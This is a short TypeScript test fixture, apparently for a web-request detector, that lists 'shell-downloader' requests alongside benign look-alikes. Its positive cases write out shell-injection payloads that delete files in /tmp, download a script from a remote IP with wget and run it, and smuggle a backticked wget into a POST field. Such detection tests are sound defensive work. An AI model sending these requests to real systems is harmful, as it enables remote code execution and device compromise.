import { type Proof, get, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'shell-downloader',
    [
      get('/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/jaws;sh+/tmp/jaws'),
      post('/x', 'cmd=`wget http://198.51.100.7/x`'),
    ],
    [get('/docs/wget-http.html'), get('/cd+rom')],
  ),
]
